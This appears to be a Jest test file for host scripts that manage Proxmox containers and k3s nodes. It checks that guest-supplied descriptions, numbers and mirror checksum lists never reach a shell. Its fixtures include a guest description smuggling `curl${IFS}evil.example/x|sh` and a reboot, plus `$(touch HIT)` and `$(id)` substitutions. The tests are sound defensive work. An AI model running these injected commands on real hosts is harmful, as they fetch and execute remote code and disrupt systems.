import * as fs from "node:fs";
import * as path from "node:path";

import { HOST_TASKS } from "../../remote/hostGate";
import { taskOf, type TaskName } from "../../remote/tasks";
import { CREATION, MARK, ScriptedHost } from "../support/scriptedHost";

/*
 * Which guests get a question or data, and what the scripts do with text that a guest, another person or a mirror chose. The hosts
 * are folders; `pct` records its calls.
 */

const CLUSTER_ID = "0123456789abcdef";
const ours = `#creation ${CREATION} of ${MARK}\narch: amd64\nhostname: node-1\nlxc.cap.drop:\n`;

function hostWith(conf: string, pct = ""): ScriptedHost {
  const host = new ScriptedHost(pct);
  host.conf(103, conf);
  const dir = path.join(host.root, "state", CLUSTER_ID);
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, "servers"), "103 node-1\n");
  fs.writeFileSync(path.join(dir, "mark"), MARK);
  fs.writeFileSync(path.join(dir, "policy"), "DRAIN_TIMEOUT=5\nON_BLOCKED=stop\nALLOW_CONTROL_PLANE_LOSS=no\n");
  return host;
}

/** Values for the arguments of every task. */
const VALUES = {
  ...{ CLUSTER_ID, ROLE: "agent", AFTER: "its reboot", TIMEOUT: "0", ADDRESS: "198.18.0.20", AUTHORIZED_KEYS: "" },
  ...{
    FROM: "/etc",
    FILES: "hostname",
    VERSION: "v1.36.3+k3s1",
    LABELS: "",
    TAINTS: "",
    LONGHORN_DISKS: "",
    ETCD: "no",
    CREATION,
    NETWORK: "change",
    WAIT: "0",
  },
  ...{ URN: "urn:pulumi:homelab::proxmox-k3s::a$b::node-1" },
};

describe.each([
  ["a foreign guest", "#my mail server\narch: amd64\nhostname: mail\n"],
  ["a foreign guest with a copy of our description", ours.replace("lxc.cap.drop:\n", "")],
  ["a guest with our mark of which the host has no record", ours],
])("%s on a node's VMID", (_, conf) => {
  const acting = HOST_TASKS.filter((task) => (taskOf(task).args as readonly string[]).includes("VMID"));
  it.each<TaskName | "kept-leave">([...acting.filter((task) => task !== "leave"), "kept-leave"])(
    "gets no question and no data from %s",
    (task) => {
      const host = hostWith(conf);
      host.hurry();
      // A claim only reads the file. The guard and the claim accept a guest with our mark.
      const run = host.script(task, task === "guard" ? "delete" : "update", VALUES);
      const calls = run.pct.filter((call) => !call.startsWith("status "));
      expect([task, calls, host.conf(103)]).toEqual([task, [], conf]);
      // No step depends on the page, so it does not fail.
      if (task !== "guard" && task !== "claim" && task !== "page") expect([task, run.code]).toEqual([task, 1]);
    },
  );
});

describe("the description of a foreign guest", () => {
  const evil = `#x of proxmox-k3s x';curl\${IFS}evil.example/x|sh; ${CLUSTER_ID}\nhostname: mail';reboot;'\n`;

  it.each<TaskName>(["claim", "guard", "lxc"])("never becomes part of a command in a hint: %s", (task) => {
    const run = hostWith(evil).script(task, task === "guard" ? "delete" : "update", VALUES);
    expect(run.code).toBe(1);
    expect(run.output).not.toMatch(/evil|reboot;|curl/);
  });
});

describe("a number from a guest", () => {
  it.each(["a[$(touch HIT)]", "-5", "1e9", "99999999999999999999", "", "3\n4"])(
    "%j is not used, and not run",
    (word) => {
      const answers = `case "$*" in
      *readyz*) ;;
      *started*) printf '%s\\n' '${word.replaceAll("'", "")}' ;;
      *"get node node-1 "*jsonpath*conditions*) echo "True v1.36.3+k3s1 |x" ;;
      status*) echo "status: running" ;;
    esac`;
      const host = hostWith(ours, answers).record("prepared", 103);
      host.hurry();
      const run = host.script("ready", "create", { ...VALUES, TIMEOUT: "600" });
      expect([run.code, run.output]).toEqual([0, expect.stringContaining("waiting for node-1")]);
      expect(fs.existsSync("HIT")).toBe(false);
    },
  );
});

describe("the list of a release's sums", () => {
  const sum = "5a".repeat(32);
  const read = (list: string, source = "https://mirror.lan/k3s/v1") => {
    const host = new ScriptedHost();
    const curl = path.join(host.root, "bin/curl");
    fs.writeFileSync(path.join(host.root, "list"), list);
    const text = `#!/bin/sh\necho "$*" >"${host.root}/curl"\nwhile [ "$1" != -o ]; do shift; done\ncp "${host.root}/list" "$2"\n`;
    fs.writeFileSync(curl, text, { mode: 0o755 });
    const run = host.script("release-sums", "create", { SOURCE: source, ARCH: "amd64", IMAGES: "no" });
    return { ...run, asked: fs.readFileSync(path.join(host.root, "curl"), "utf8") };
  };

  it("gives the binary's only sum", () => {
    expect(read(`${sum}  k3s\n${"00".repeat(32)}  k3s-airgap-images-amd64.tar\n`)).toMatchObject({
      code: 0,
      outcome: `${sum} -`,
    });
  });

  it.each([
    ["names the binary twice", `${sum}  k3s\n'$(id)'  k3s\n`],
    ["has no sum beside the binary's name", `'$(id)'  k3s\n`],
    ["has a sum that is too short", `${sum.slice(2)}  k3s\n`],
    ["does not name it", `${sum}  k3s-arm64\n`],
  ])("is refused if it %s", (_, list) => {
    const run = read(list);
    expect([run.code, run.outcome]).toEqual([1, ""]);
    expect(run.output).toContain("has no SHA-256 for k3s");
  });

  it("is downloaded only over https if its source is https, even after a redirect", () => {
    expect(read(`${sum}  k3s\n`).asked).toContain("--proto-redir =https ");
    expect(read(`${sum}  k3s\n`, "http://mirror.lan/k3s/v1").asked).toContain("--proto-redir =http,https ");
  });
});
